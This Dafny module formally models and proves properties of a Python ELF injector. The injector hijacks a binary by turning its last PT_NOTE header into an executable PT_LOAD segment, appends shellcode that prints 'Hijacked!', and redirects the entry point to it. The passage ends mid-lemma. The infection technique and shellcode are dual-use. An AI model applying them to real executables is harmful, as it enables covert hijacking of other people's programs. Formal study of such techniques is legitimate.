/**
 * injector.py: the PT_NOTE overwriting trick over the elf.py layer. The
 * last PT_NOTE program header is turned into an executable PT_LOAD segment
 * that maps code appended at the end of the file, and the entry point is
 * pointed at it.
 *
 * The command line is `target`: None when no file argument is given.
 */
module Injector {
  import opened Bytes
  import opened Outcomes
  import opened Layout
  import opened Files
  import MappedHandler
  import StdioHandler
  import ElfPy

  const PT_NOTE: int := 4
  const PT_LOAD: int := 1
  const PF_X: int := 1
  const PF_R: int := 4
  const ADDR: int := 0x8000
  const PAGE: int := 0x1000

  /** The shellcode; the byte after the first 0x48 is written `\31`, an octal escape, so it is 0x19. */
  const CODE: seq<byte> := [
    0xeb, 0x22, 0x5e, 0x48, 0x19, 0xff, 0x66, 0xbf, 0x01, 0x00, 0x48, 0x31, 0xc0, 0xb0, 0x01, 0x48, 0x31,
    0xd2, 0xb2, 0x0b, 0x0f, 0x05, 0x48, 0x31, 0xc0, 0xb0, 0x3c, 0x48, 0x31, 0xd2, 0xb2, 0x01, 0xfe, 0xca,
    0x0f, 0x05, 0xe8, 0xd9, 0xff, 0xff, 0xff,
    0x48, 0x69, 0x6a, 0x61, 0x63, 0x6b, 0x65, 0x64, 0x21, 0x0a, 0x00]

  /** How the script ends: normally, by sys.exit with a code, or by an exception. */
  datatype Exit = Completed | Exit(code: int) | Raised(error: Error)

  /** A step of the script: the file so far, or the way it ended and the file it left behind. */
  datatype Run<T> = Continue(value: T) | Stop(exit: Exit, contents: seq<byte>) {
    predicate IsFailure() { Stop? }
    function PropagateFailure<U>(): Run<U> requires IsFailure() { Stop(exit, contents) }
    function Extract(): T requires !IsFailure() { value }
  }

  /** `phdr.p_type` on a fresh ProgramHeader: a read of the file. */
  function PType(s: seq<byte>, access: Access, i: nat): Result<int> {
    ElfPy.ReadMember(s, access, ElfPy.ProgramHeader(i), "p_type")
  }

  /**
   * `[phdr for phdr in program_headers if phdr.p_type == PT_NOTE].pop()`,
   * over the first `n` headers: the index of the last PT_NOTE header, None
   * when there is none, or the error of the first read that fails.
   */
  function LastNote(s: seq<byte>, access: Access, n: nat): Result<Option<nat>> {
    if n == 0 then Ok(None)
    else
      var prev :- LastNote(s, access, n - 1);
      var t :- PType(s, access, n - 1);
      Ok(if t == PT_NOTE then Some(n - 1) else prev)
  }

  /**
   * LastNote is the comprehension's meaning: on success every read succeeded
   * and the chosen header is a PT_NOTE with none after it, None means no
   * PT_NOTE at all; an error is the one of the first read that fails.
   */
  lemma {:induction false} LastNoteIsLast(s: seq<byte>, access: Access, n: nat)
    ensures var r := LastNote(s, access, n);
            (r.Ok? ==> forall j :: 0 <= j < n ==> PType(s, access, j).Ok?) &&
            (r.Ok? && r.value.Some? ==>
               var k := r.value.value;
               k < n && PType(s, access, k) == Ok(PT_NOTE) &&
               forall j :: k < j < n ==> PType(s, access, j).value != PT_NOTE) &&
            (r.Ok? && r.value.None? ==> forall j :: 0 <= j < n ==> PType(s, access, j).value != PT_NOTE) &&
            (r.Err? ==> exists j :: 0 <= j < n && PType(s, access, j) == Err(r.error) &&
                                    forall i :: 0 <= i < j ==> PType(s, access, i).Ok?)
  {
    if n > 0 {
      var m := n - 1;
      LastNoteIsLast(s, access, m);
      var prev := LastNote(s, access, m);
      if prev.Err? {
        assert LastNote(s, access, n) == prev;
      } else {
        LastNoteStep(s, access, m);
        var t := PType(s, access, m);
        if t.Err? {
          assert LastNote(s, access, n) == Err(t.error);
          assert forall i :: 0 <= i < m ==> PType(s, access, i).Ok?;
          assert PType(s, access, m) == Err(t.error);
        } else if t.value == PT_NOTE {
          assert LastNote(s, access, n) == Ok(Some(m));
        } else {
          assert LastNote(s, access, n) == prev;
        }
      }
    }
  }

  /** The p_vaddr the script computes for a file of `size` bytes. */
  function Vaddr(size: int): int {
    ADDR + size % PAGE - ADDR % PAGE
  }

  /** An assignment to a member of a ProgramHeader or of the ELFHeader; an exception ends the script. */
  function Store(s: seq<byte>, access: Access, k: ElfPy.Kind, name: string, value: int): Run<seq<byte>> {
    match ElfPy.StoreMember(s, access, k, name, value)
    case Ok(t) => Continue(t)
    case Err(e) => Stop(Raised(e), s)
  }

  /**
   * The j-th assignment of lines 38-44 to the PT_NOTE header, as (member,
   * value) for a file of `size` bytes when the line runs; the chained
   * assignment of line 43 does p_filesz first.
   */
  function Assignment(j: nat, size: int, vaddr: int): (string, int)
    requires j < 7
  {
    match j
    case 0 => ("p_type", PT_LOAD)
    case 1 => ("p_flags", PF_X + PF_R)  // PF_X | PF_R: the flags are distinct bits
    case 2 => ("p_offset", size)
    case 3 => ("p_vaddr", vaddr)
    case 4 => ("p_filesz", |CODE|)
    case 5 => ("p_memsz", |CODE|)
    case _ => ("p_align", PAGE)
  }

  /**
   * Lines 38-44 from assignment `j` on, on program header `k`: the file
   * after them and the p_vaddr assigned, computed from the size of the file
   * when line 42 runs (`vaddr` holds it once j > 3).
   */
  function Rewrite(s: seq<byte>, access: Access, k: nat, j: nat, vaddr: int): Run<(seq<byte>, int)>
    decreases 7 - j
  {
    if j >= 7 then Continue((s, vaddr))
    else
      var v := if j == 3 then Vaddr(|s|) else vaddr;
      var (name, value) := Assignment(j, |s|, v);
      var t :- Store(s, access, ElfPy.ProgramHeader(k), name, value);
      Rewrite(t, access, k, j + 1, v)
  }

  /** Lines 46-47: the code appended at the size of the file, then e_entry. */
  function Finish(s: seq<byte>, access: Access, vaddr: int): Run<seq<byte>> {
    var t :- match StdioHandler.InsertBytesSpec(s, access, |s|, CODE, true)
             case Ok(t) => Continue(t)
             case Err(e) => Stop(Raised(e), s);
    Store(t, access, ElfPy.ElfHeader, "e_entry", vaddr)
  }

  /** Lines 38-47 on program header `k`. */
  function Injection(s: seq<byte>, access: Access, k: nat): Run<seq<byte>> {
    var (t, vaddr) :- Rewrite(s, access, k, 0, 0);
    Finish(t, access, vaddr)
  }

  /** The whole script on a file argument: its end and the file it leaves. */
  function InjectSpec(s: seq<byte>, access: Access): (Exit, seq<byte>) {
    match ElfPy.TableSize(s, access, "e_phnum")
    case Err(e) => (Raised(e), s)
    case Ok(n) =>
      match LastNote(s, access, n)
      case Err(e) => (Raised(e), s)
      case Ok(None) => (Exit(2), s)
      case Ok(Some(k)) =>
        match Injection(s, access, k)
        case Continue(t) => (Completed, t)
        case Stop(x, t) => (x, t)
  }

  /** One member assignment of the script on a ProgramHeader or the ELFHeader. */
  method Assign(h: ElfPy.Header, name: string, value: int) returns (r: Run<()>)
    requires name in ElfPy.Members(h.kind)
    modifies h, h.file
    ensures h.cache == (if r.Continue? then old(h.cache)[name := value] else old(h.cache))
    ensures var st := Store(old(h.file.contents), h.file.access, h.kind, name, value);
            (st.Continue? <==> r.Continue?) && h.file.contents == (if st.Continue? then st.value else st.contents) &&
            (st.Stop? ==> r == Stop(st.exit, st.contents))
  {
    var o := h.SetAttr(name, value);
    match o {
      case Pass =>
        r := Continue(());
      case Fail(e) =>
        r := Stop(Raised(e), h.file.contents);
    }
  }

  /** Lines 38-40 on header instance `ph`: p_type, p_flags, and p_offset from the file size. */
  method Retype(elf: ElfPy.ElfFile, ph: ElfPy.Header) returns (step: Run<()>)
    requires ph.file == elf.file && ph.kind.ProgramHeader?
    modifies ph, elf.file
    ensures var run := Rewrite(old(elf.file.contents), elf.file.access, ph.kind.index, 0, 0);
            run == (if step.Stop? then Stop(step.exit, elf.file.contents) else Rewrite(elf.file.contents, elf.file.access, ph.kind.index, 3, 0))
  {
    var f := elf.file;
    ghost var run := Rewrite(f.contents, f.access, ph.kind.index, 0, 0);
    step := Assign(ph, "p_type", PT_LOAD);
    if step.Stop? {
      return;
    }
    assert run == Rewrite(f.contents, f.access, ph.kind.index, 1, 0);
    step := Assign(ph, "p_flags", PF_X + PF_R);
    if step.Stop? {
      return;
    }
    assert run == Rewrite(f.contents, f.access, ph.kind.index, 2, 0);
    step := Assign(ph, "p_offset", elf.Size());
  }

  /** Line 42: p_vaddr from the file size; `vaddr` is the value assigned. */
  method Locate(elf: ElfPy.ElfFile, ph: ElfPy.Header) returns (step: Run<()>, vaddr: int)
    requires ph.file == elf.file && ph.kind.ProgramHeader?
    modifies ph, elf.file
    ensures var run := Rewrite(old(elf.file.contents), elf.file.access, ph.kind.index, 3, 0);
            run == (if step.Stop? then Stop(step.exit, elf.file.contents) else Rewrite(elf.file.contents, elf.file.access, ph.kind.index, 4, vaddr))
    ensures step.Continue? ==> ph.cache == old(ph.cache)["p_vaddr" := vaddr]
  {
    vaddr := ADDR + elf.Size() % PAGE - ADDR % PAGE;
    assert vaddr == Vaddr(|elf.file.contents|);
    assert Assignment(3, |elf.file.contents|, vaddr) == ("p_vaddr", vaddr);
    step := Assign(ph, "p_vaddr", vaddr);
  }

  /** Lines 43-44: p_filesz and p_memsz to the code's length, p_align to the page size. */
  method Size(ph: ElfPy.Header, ghost vaddr: int) returns (step: Run<()>)
    requires ph.kind.ProgramHeader?
    modifies ph, ph.file
    ensures var run := Rewrite(old(ph.file.contents), ph.file.access, ph.kind.index, 4, vaddr);
            run == (if step.Stop? then Stop(step.exit, ph.file.contents) else Continue((ph.file.contents, vaddr)))
    ensures step.Continue? ==> ph.cache == old(ph.cache)["p_filesz" := |CODE|]["p_memsz" := |CODE|]["p_align" := PAGE]
  {
    var f := ph.file;
    ghost var run := Rewrite(f.contents, f.access, ph.kind.index, 4, vaddr);
    step := Assign(ph, "p_filesz", |CODE|);
    if step.Stop? {
      return;
    }
    assert run == Rewrite(f.contents, f.access, ph.kind.index, 5, vaddr);
    step := Assign(ph, "p_memsz", |CODE|);
    if step.Stop? {
      return;
    }
    assert run == Rewrite(f.contents, f.access, ph.kind.index, 6, vaddr);
    step := Assign(ph, "p_align", PAGE);
  }

  /** Lines 38-47 on the chosen header instance `ph`. */
  method Overwrite(elf: ElfPy.ElfFile, ph: ElfPy.Header) returns (r: Exit)
    requires ph.file == elf.file && ph.kind.ProgramHeader?
    modifies ph, elf.file
    ensures var run := Injection(old(elf.file.contents), elf.file.access, ph.kind.index);
            r == (if run.Continue? then Completed else run.exit) &&
            elf.file.contents == (if run.Continue? then run.value else run.contents)
  {
    var step := Retype(elf, ph);
    if step.Stop? {
      return step.exit;
    }
    var vaddr;
    step, vaddr := Locate(elf, ph);
    if step.Stop? {
      return step.exit;
    }
    step := Size(ph, vaddr);
    if step.Stop? {
      return step.exit;
    }
    var o := elf.OverwriteAt(elf.Size(), CODE);
    if o.Fail? {
      return Raised(o.error);
    }
    var header := elf.Header();
    var entry := ph.GetAttr("p_vaddr");
    step := Assign(header, "e_entry", entry.value);
    if step.Stop? {
      return step.exit;
    }
    r := Completed;
  }

  /** Once a read of the comprehension fails, the exception is the comprehension's. */
  lemma {:induction false} LastNoteFailed(s: seq<byte>, access: Access, m: nat, n: nat)
    requires m <= n && LastNote(s, access, m).Err?
    ensures LastNote(s, access, n) == LastNote(s, access, m)
    decreases n - m
  {
    if m < n {
      LastNoteFailed(s, access, m, n - 1);
    }
  }

  /**
   * Lines 28-34: the last instance among `headers` whose p_type reads as
   * PT_NOTE, None when there is none, or the first exception.
   */
  method FindNote(f: DiskFile, headers: seq<ElfPy.Header>) returns (r: Result<Option<ElfPy.Header>>)
    requires forall j :: 0 <= j < |headers| ==> headers[j].file == f && headers[j].kind == ElfPy.ProgramHeader(j) && headers[j].cache == map[]
    ensures var last := LastNote(f.contents, f.access, |headers|);
            (r.Err? <==> last.Err?) && (r.Err? ==> r.error == last.error) &&
            (r.Ok? ==> (r.value.None? <==> last.value.None?) &&
                       (r.value.Some? ==> r.value.value in headers && r.value.value.kind == ElfPy.ProgramHeader(last.value.value)))
  {
    var found: Option<ElfPy.Header> := None;
    var i := 0;
    while i < |headers|
      invariant 0 <= i <= |headers|
      invariant LastNote(f.contents, f.access, i).Ok?
      invariant found.None? <==> LastNote(f.contents, f.access, i).value.None?
      invariant found.Some? ==> found.value in headers && found.value.kind == ElfPy.ProgramHeader(LastNote(f.contents, f.access, i).value.value)
    {
      PTypeAttr(headers[i], f, i);
      LastNoteStep(f.contents, f.access, i);
      var t := headers[i].GetAttr("p_type");
      if t.Err? {
        LastNoteFailed(f.contents, f.access, i + 1, |headers|);
        return Err(t.error);
      }
      if t.value == PT_NOTE {
        found := Some(headers[i]);
      }
      i := i + 1;
    }
    r := Ok(found);
  }

  /** One more header: its read's exception, or the PT_NOTE it is, or the choice so far. */
  lemma LastNoteStep(s: seq<byte>, access: Access, i: nat)
    requires LastNote(s, access, i).Ok?
    ensures PType(s, access, i).Err? ==> LastNote(s, access, i + 1) == Err(PType(s, access, i).error)
    ensures PType(s, access, i).Ok? ==>
              LastNote(s, access, i + 1) == Ok(if PType(s, access, i).value == PT_NOTE then Some(i) else LastNote(s, access, i).value)
  {
  }

  /** `p_type` of a fresh ProgramHeader instance reads the file. */
  lemma PTypeAttr(h: ElfPy.Header, f: DiskFile, j: nat)
    requires h.file == f && h.kind == ElfPy.ProgramHeader(j) && h.cache == map[]
    ensures h.Attr("p_type") == PType(f.contents, f.access, j)
  {
    assert "p_type" in ElfPy.Members(h.kind);
  }

  /** The script. */
  method Inject(target: Option<DiskFile>) returns (r: Exit)
    modifies if target.Some? then {target.value} else {}
    ensures target.None? ==> r == Exit(1)
    ensures target.Some? ==> (r, target.value.contents) == InjectSpec(old(target.value.contents), target.value.access)
  {
    if target.None? {
      return Exit(1);
    }
    var f := target.value;
    ghost var s := f.contents;
    var elf := new ElfPy.ElfFile(f);
    var phs := elf.ProgramHeaders();
    if phs.Err? {
      return Raised(phs.error);
    }
    var note := FindNote(f, phs.value);
    if note.Err? {
      return Raised(note.error);
    }
    if note.value.None? {
      return Exit(2);
    }
    r := Overwrite(elf, note.value.value);
  }

  // ---------------------------------------------------------------------
  // Properties
  // ---------------------------------------------------------------------

  /** A store of `value` into `field` of a program-header record. */
  datatype Put = Put(field: Field, value: int)

  /** The stores of lines 38-44 on a file of `size` bytes, in order. */
  function Puts(size: int): seq<Put> {
    [Put(Field(0, 4), PT_LOAD), Put(Field(4, 4), PF_X + PF_R), Put(Field(8, 8), size), Put(Field(16, 8), Vaddr(size)),
     Put(Field(32, 8), |CODE|), Put(Field(40, 8), |CODE|), Put(Field(48, 8), PAGE)]
  }

  predicate InRecord(puts: seq<Put>) {
    forall j :: 0 <= j < |puts| ==> Within(puts[j].field, PhdrSize)
  }

  /** The file after `puts`, first to last, into the record at `base`, each value truncated to its field. */
  function StoreAll(s: seq<byte>, base: nat, puts: seq<Put>): (r: seq<byte>)
    requires base + PhdrSize <= |s| && InRecord(puts)
    ensures |r| == |s|
    decreases |puts|
  {
    if puts == [] then s
    else
      var p := puts[0];
      StoreAll(MappedHandler.StoreField(s, base, p.field, p.value, p.field.width).value, base, puts[1..])
  }

  /** The j-th assignment of the script stores Puts(size)[j] under the member's name. */
  lemma AssignmentStores(j: nat, size: int, vaddr: int)
    requires j < 7 && (j == 3 ==> vaddr == Vaddr(size))
    ensures var (name, value) := Assignment(j, size, vaddr);
            PhdrField(name) == Some(Puts(size)[j].field) && value == Puts(size)[j].value
  {
  }

  /** The seven stores lie inside the record and no two overlap. */
  lemma PutsLayout(size: int)
    ensures InRecord(Puts(size))
    ensures forall i, j :: 0 <= i < j < 7 ==> Disjoint(Puts(size)[i].field, Puts(size)[j].field)
  {
  }

  /** A field none of the stores overlaps keeps its value. */
  lemma {:induction false} StoreAllBeside(s: seq<byte>, base: nat, puts: seq<Put>, g: Field)
    requires base + PhdrSize <= |s| && InRecord(puts) && Within(g, PhdrSize)
    requires forall j :: 0 <= j < |puts| ==> Disjoint(puts[j].field, g)
    ensures MappedHandler.Load(StoreAll(s, base, puts), base, g) == MappedHandler.Load(s, base, g)
    decreases |puts|
  {
    if puts != [] {
      var p := puts[0];
      MappedHandler.LoadBesideStore(s, base, p.field, p.value, p.field.width, base, g);
      StoreAllBeside(MappedHandler.StoreField(s, base, p.field, p.value, p.field.width).value, base, puts[1..], g);
    }
  }

  /** Each field of pairwise disjoint stores holds its value, truncated to the field. */
  lemma {:induction false} StoreAllLoad(s: seq<byte>, base: nat, puts: seq<Put>, j: nat)
    requires base + PhdrSize <= |s| && InRecord(puts) && j < |puts|
    requires forall a, b :: 0 <= a < b < |puts| ==> Disjoint(puts[a].field, puts[b].field)
    ensures MappedHandler.Load(StoreAll(s, base, puts), base, puts[j].field) == Ok(puts[j].value % Pow256(puts[j].field.width))
    decreases |puts|
  {
    var p := puts[0];
    var t := MappedHandler.StoreField(s, base, p.field, p.value, p.field.width).value;
    if j == 0 {
      MappedHandler.LoadAfterStore(s, base, p.field, p.value, p.field.width);
      forall b | 0 <= b < |puts[1..]|
        ensures Disjoint(puts[1..][b].field, p.field)
      {
        assert puts[1..][b] == puts[b + 1];
      }
      StoreAllBeside(t, base, puts[1..], p.field);
    } else {
      forall a, b | 0 <= a < b < |puts[1..]|
        ensures Disjoint(puts[1..][a].field, puts[1..][b].field)
      {
        assert puts[1..][a] == puts[a + 1] && puts[1..][b] == puts[b + 1];
      }
      StoreAllLoad(t, base, puts[1..], j - 1);
    }
  }

  /** Outside the record nothing changes. */
  lemma {:induction false} StoreAllFrame(s: seq<byte>, base: nat, puts: seq<Put>)
    requires base + PhdrSize <= |s| && InRecord(puts)
    ensures forall i :: 0 <= i < |s| && !(base <= i < base + PhdrSize) ==> StoreAll(s, base, puts)[i] == s[i]
    decreases |puts|
  {
    if puts != [] {
      var p := puts[0];
      StoreAllFrame(MappedHandler.StoreField(s, base, p.field, p.value, p.field.width).value, base, puts[1..]);
    }
  }

  /**
   * On a writable file whose program header `k` lies inside it, past the
   * file header, lines 38-44 from assignment `j` on succeed: they store
   * Puts(size)[j..] into the record and give the p_vaddr of line 42.
   */
  lemma {:induction false} RewriteStores(s: seq<byte>, access: Access, k: nat, j: nat, vaddr: int)
    requires access.readable && access.writable && StdioHandler.ProgramInFile(s, k)
    requires MappedHandler.ProgramBase(s, k).value >= EhdrSize && j <= 7 && (j > 3 ==> vaddr == Vaddr(|s|))
    ensures var base := MappedHandler.ProgramBase(s, k).value;
            Rewrite(s, access, k, j, vaddr) == Continue((StoreAll(s, base, Puts(|s|)[j..]), Vaddr(|s|)))
    decreases 7 - j
  {
    var base := MappedHandler.ProgramBase(s, k).value;
    PutsLayout(|s|);
    if j < 7 {
      var v := if j == 3 then Vaddr(|s|) else vaddr;
      var (name, value) := Assignment(j, |s|, v);
      AssignmentStores(j, |s|, v);
      var p := Puts(|s|)[j];
      var t := ProgramStore(s, access, k, name, value, p.field);
      RewriteStep(s, access, k, j, vaddr, t);
      RewriteStores(t, access, k, j + 1, v);
      assert Puts(|s|)[j..][1..] == Puts(|s|)[j + 1..];
    } else {
      assert Puts(|s|)[j..] == [];
    }
  }

  /** One assignment of lines 38-44 that succeeds hands the file it made to the next. */
  lemma RewriteStep(s: seq<byte>, access: Access, k: nat, j: nat, vaddr: int, t: seq<byte>)
    requires j < 7
    requires var v := if j == 3 then Vaddr(|s|) else vaddr;
             var (name, value) := Assignment(j, |s|, v);
             Store(s, access, ElfPy.ProgramHeader(k), name, value) == Continue(t)
    ensures Rewrite(s, access, k, j, vaddr) == Rewrite(t, access, k, j + 1, if j == 3 then Vaddr(|s|) else vaddr)
  {
  }

  /** One program-header assignment on such a file: the field stored, the record where it was. */
  lemma ProgramStore(s: seq<byte>, access: Access, k: nat, name: string, value: int, f: Field) returns (t: seq<byte>)
    requires access.readable && access.writable && StdioHandler.ProgramInFile(s, k)
    requires MappedHandler.ProgramBase(s, k).value >= EhdrSize && PhdrField(name) == Some(f)
    ensures var base := MappedHandler.ProgramBase(s, k).value;
            base + f.offset + f.width <= |s| &&
            t == MappedHandler.StoreField(s, base, f, value, f.width).value &&
            Store(s, access, ElfPy.ProgramHeader(k), name, value) == Continue(t)
    ensures |t| == |s| && StdioHandler.ProgramInFile(t, k) && MappedHandler.ProgramBase(t, k) == MappedHandler.ProgramBase(s, k)
  {
    var base := MappedHandler.ProgramBase(s, k).value;
    PhdrFieldWithin(name, f);
    ProgramStoreIsFieldStore(s, access, k, name, value, f);
    t := MappedHandler.StoreField(s, base, f, value, f.width).value;
    StoreFieldKeepsTable(s, k, f, value);
  }

  /** A store into program header `k`, past the file header, leaves the tables where they were. */
  lemma StoreFieldKeepsTable(s: seq<byte>, k: nat, f: Field, value: int)
    requires StdioHandler.ProgramInFile(s, k) && MappedHandler.ProgramBase(s, k).value >= EhdrSize && Within(f, PhdrSize)
    ensures var t := MappedHandler.StoreField(s, MappedHandler.ProgramBase(s, k).value, f, value, f.width);
            t.Ok? && |t.value| == |s| && MappedHandler.ProgramBase(t.value, k) == MappedHandler.ProgramBase(s, k) &&
            StdioHandler.ProgramInFile(t.value, k)
  {
    var base := MappedHandler.ProgramBase(s, k).value;
    var d := EncodeLE(value % Pow256(f.width), f.width);
    MappedHandler.SectionBaseKept(s, k, base + f.offset, d);
  }

  lemma PhdrFieldWithin(name: string, f: Field)
    requires PhdrField(name) == Some(f)
    ensures Within(f, PhdrSize)
  {
    PhdrLayout(name, name);
  }

  /** write_program_header of a known member on such a file is the mapped store of its field. */
  lemma ProgramStoreIsFieldStore(s: seq<byte>, access: Access, k: nat, name: string, value: int, f: Field)
    requires access.readable && access.writable && StdioHandler.ProgramInFile(s, k) && PhdrField(name) == Some(f)
    ensures ElfPy.StoreMember(s, access, ElfPy.ProgramHeader(k), name, value)
            == MappedHandler.StoreField(s, MappedHandler.ProgramBase(s, k).value, f, value, f.width)
  {
    StdioHandler.WriteProgramHeaderAgrees(s, access, name, k, value);
  }

  /** Lines 46-47 on a writable file of at least the header's size: the code appended, then e_entry stored. */
  lemma FinishStores(s: seq<byte>, access: Access, vaddr: int)
    requires access.readable && access.writable && |s| >= EhdrSize && |s| < TwoTo63
    ensures Finish(s, access, vaddr) == Continue(MappedHandler.StoreField(s + CODE, 0, Field(24, 8), vaddr, 8).value)
  {
    assert s[..|s|] == s;
    assert StdioHandler.InsertBytesSpec(s, access, |s|, CODE, true) == Ok(s + CODE);
    StdioHandler.WriteElfHeaderAgrees(s + CODE, access, "e_entry", vaddr);
  }

  /** Bytes appended past a field do not change it. */
  lemma LoadAppend(s: seq<byte>, d: seq<byte>, base: nat, f: Field)
    requires base + f.offset + f.width <= |s|
    ensures MappedHandler.Load(s + d, base, f) == MappedHandler.Load(s, base, f)
  {
    assert (s + d)[base + f.offset..base + f.offset + f.width] == s[base + f.offset..base + f.offset + f.width];
  }

  /** The program-header table is located by bytes 32-40 and 54-56 of the file header. */
  lemma SameTable(s: seq<byte>, t: seq<byte>, k: nat)
    requires |s| >= EhdrSize && |t| >= EhdrSize
    requires forall i :: (32 <= i < 40 || 54 <= i < 56) ==> t[i] == s[i]
    ensures MappedHandler.ProgramBase(t, k) == MappedHandler.ProgramBase(s, k)
  {
    assert t[32..40] == s[32..40];
    assert t[54..56] == s[54..56];
  }

  /** A file the script rewrites without an exception: writable, with header `k` inside it past the file header. */
  predicate Injectable(s: seq<byte>, access: Access, k: nat) {
    access.readable && access.writable && StdioHandler.ProgramInFile(s, k) &&
    MappedHandler.ProgramBase(s, k).value >= EhdrSize && |s| < TwoTo63
  }

  /** The file the script leaves: the seven stores, the code appended, e_entry stored. */
  function Injected(s: seq<byte>, access: Access, k: nat): seq<byte>
    requires Injectable(s, access, k)
  {
    PutsLayout(|s|);
    var s7 := StoreAll(s, MappedHandler.ProgramBase(s, k).value, Puts(|s|));
    MappedHandler.StoreField(s7 + CODE, 0, Field(24, 8), Vaddr(|s|), 8).value
  }

  lemma InjectionIsInjected(s: seq<byte>, access: Access, k: nat)
    requires Injectable(s, access, k)
    ensures Injection(s, access, k) == Continue(Injected(s, access, k))
  {
    RewriteStores(s, access, k, 0, 0);
    assert Puts(|s|)[0..] == Puts(|s|);
    PutsLayout(|s|);
    FinishStores(StoreAll(s, MappedHandler.ProgramBase(s, k).value, Puts(|s|)), access, Vaddr(|s|));
  }

  /** The bytes of the injected file: the old ones but in the record and in e_entry, then the code. */
  lemma InjectedBytes(s: seq<byte>, access: Access, k: nat)
    requires Injectable(s, access, k)
    ensures var t := Injected(s, access, k);
            var base := MappedHandler.ProgramBase(s, k).value;
            |t| == |s| + |CODE| && t[|s|..] == CODE &&
            forall i :: 0 <= i < |s| && !(base <= i < base + PhdrSize) && !(24 <= i < 32) ==> t[i] == s[i]
  {
    var t := Injected(s, access, k);
    var base := MappedHandler.ProgramBase(s, k).value;
    PutsLayout(|s|);
    StoreAllFrame(s, base, Puts(|s|));
    var s7 := StoreAll(s, base, Puts(|s|));
    EntryStoreFrame(s7, CODE, Vaddr(|s|));
  }

  /** Storing e_entry into a file with `code` appended changes no byte outside bytes 24-31. */
  lemma EntryStoreFrame(s7: seq<byte>, code: seq<byte>, v: int)
    requires 32 <= |s7|
    ensures var t := MappedHandler.StoreField(s7 + code, 0, Field(24, 8), v, 8);
            t.Ok? && |t.value| == |s7| + |code| && t.value[|s7|..] == code &&
            forall i :: 0 <= i < |s7| && !(24 <= i < 32) ==> t.value[i] == s7[i]
  {
    var t := MappedHandler.StoreField(s7 + code, 0, Field(24, 8), v, 8).value;
    forall i | 0 <= i < |code|
      ensures t[|s7|..][i] == code[i]
    {
      assert t[|s7| + i] == (s7 + code)[|s7| + i];
    }
  }

  /** A program-header member of the injected file reads as the value its store was given, when that fits the field. */
  lemma InjectedRead(s: seq<byte>, access: Access, k: nat, name: string, j: nat)
    requires Injectable(s, access, k) && j < 7 && PhdrReadField(name) == Some(Puts(|s|)[j].field)
    requires 0 <= Puts(|s|)[j].value < Pow256(Puts(|s|)[j].field.width) && Puts(|s|)[j].value < TwoTo63
    ensures ElfPy.ReadMember(Injected(s, access, k), access, ElfPy.ProgramHeader(k), name) == Ok(Puts(|s|)[j].value)
  {
    var t := Injected(s, access, k);
    var base := MappedHandler.ProgramBase(s, k).value;
    var p := Puts(|s|)[j];
    PutsLayout(|s|);
    var s7 := StoreAll(s, base, Puts(|s|));
    InjectedBytes(s, access, k);
    SameTable(s, t, k);
    StdioHandler.ReadProgramHeaderAgrees(t, access, name, k);
    StoreAllLoad(s, base, Puts(|s|), j);
    LoadAppend(s7, CODE, base, p.field);
    MappedHandler.LoadBesideStore(s7 + CODE, 0, Field(24, 8), Vaddr(|s|), 8, base, p.field);
    DivModUnique(p.value, Pow256(p.field.width), 0, p.value);
  }

  /** The new segment's address lies in the page at ADDR, at the file size's offset into a page. */
  lemma VaddrRange(size: nat)
    ensures ADDR <= Vaddr(size) < ADDR + PAGE && Vaddr(size) % PAGE == size % PAGE
  {
  }

  /** e_entry of the injected file reads as the new segment's address. */
  lemma InjectedEntry(s: seq<byte>, access: Access, k: nat)
    requires Injectable(s, access, k)
    ensures ElfPy.ReadMember(Injected(s, access, k), access, ElfPy.ElfHeader, "e_entry") == Ok(Vaddr(|s|))
  {
    var t := Injected(s, access, k);
    PutsLayout(|s|);
    var s7 := StoreAll(s, MappedHandler.ProgramBase(s, k).value, Puts(|s|));
    StdioHandler.ReadElfHeaderAgrees(t, access, "e_entry");
    MappedHandler.LoadAfterStore(s7 + CODE, 0, Field(24, 8), Vaddr(|s|), 8);
    Pow256Widths();
    VaddrRange(|s|);
    DivModUnique(Vaddr(|s|), TwoTo64, 0, Vaddr(|s|));
    assert MappedHandler.Load(t, 0, Field(24, 8)) == Ok(Vaddr(|s|));
  }

  /** The rewritten header's p_type and p_flags: a readable, executable loadable segment. */
  lemma InjectedKind(s: seq<byte>, access: Access, k: nat)
    requires Injectable(s, access, k)
    ensures var t := Injected(s, access, k);
            var ph := ElfPy.ProgramHeader(k);
            ElfPy.ReadMember(t, access, ph, "p_type") == Ok(PT_LOAD) &&
            ElfPy.ReadMember(t, access, ph, "p_flags") == Ok(PF_X + PF_R)
  {
    PhdrReadNames();
    Pow256Widths();
    InjectedRead(s, access, k, "p_type", 0);
    InjectedRead(s, access, k, "p_flags", 1);
  }

  /** The rewritten header's p_offset, p_vaddr and the alignment (read as sh_align): the segment maps the file's old end. */
  lemma InjectedPlace(s: seq<byte>, access: Access, k: nat)
    requires Injectable(s, access, k)
    ensures var t := Injected(s, access, k);
            var ph := ElfPy.ProgramHeader(k);
            ElfPy.ReadMember(t, access, ph, "p_offset") == Ok(|s|) &&
            ElfPy.ReadMember(t, access, ph, "p_vaddr") == Ok(Vaddr(|s|)) &&
            ElfPy.ReadMember(t, access, ph, "sh_align") == Ok(PAGE)
  {
    PhdrReadNames();
    Pow256Widths();
    VaddrRange(|s|);
    InjectedRead(s, access, k, "p_offset", 2);
    InjectedRead(s, access, k, "p_vaddr", 3);
    InjectedRead(s, access, k, "sh_align", 6);
  }

  /** The rewritten header's p_filesz and p_memsz: the segment is exactly the code. */
  lemma InjectedSizes(s: seq<byte>, access: Access, k: nat)
    requires Injectable(s, access, k)
    ensures var t := Injected(s, access, k);
            var ph := ElfPy.ProgramHeader(k);
            ElfPy.ReadMember(t, access, ph, "p_filesz") == Ok(|CODE|) &&
            ElfPy.ReadMember(t, access, ph, "p_memsz") == Ok(|CODE|)
  {
    PhdrReadNames();
    Pow256Widths();
    InjectedRead(s, access, k, "p_filesz", 4);
    InjectedRead(s, access, k, "p_memsz", 5);
  }

  /**
   * The script's effect, where the chosen PT_NOTE header lies inside a
   * writable file: it completes; the file gains the code at its old end;
   * the header becomes a readable, executable PT_LOAD segment mapping
   * exactly the code at an address congruent to its file offset modulo the
   * page size, as the loader demands; e_entry points there; and no byte
   * outside that header and e_entry changes.
   */
  lemma InjectedFile(s: seq<byte>, access: Access, n: nat, k: nat)
    requires ElfPy.TableSize(s, access, "e_phnum") == Ok(n) && LastNote(s, access, n) == Ok(Some(k))
    requires Injectable(s, access, k)
    ensures InjectSpec(s, access).0 == Completed
    ensures var t := InjectSpec(s, access).1;
            var base := MappedHandler.ProgramBase(s, k).value;
